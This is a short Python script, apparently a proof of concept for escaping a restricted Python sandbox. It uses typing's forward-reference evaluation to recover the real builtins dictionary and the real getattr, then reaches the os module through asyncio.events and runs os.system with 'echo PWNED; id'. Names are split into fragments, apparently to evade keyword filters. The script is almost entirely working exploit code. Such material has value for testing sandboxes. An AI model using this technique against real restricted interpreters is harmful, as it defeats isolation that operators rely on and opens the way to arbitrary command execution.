# asyncio: asyncio.events' os through the real getattr; os.system
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
o = ga(asyncio.events, "o" + "s")
try:
    o.system("echo PWN''ED; id")
except Exception as e:
    print("refused:", type(e).__name__, e)
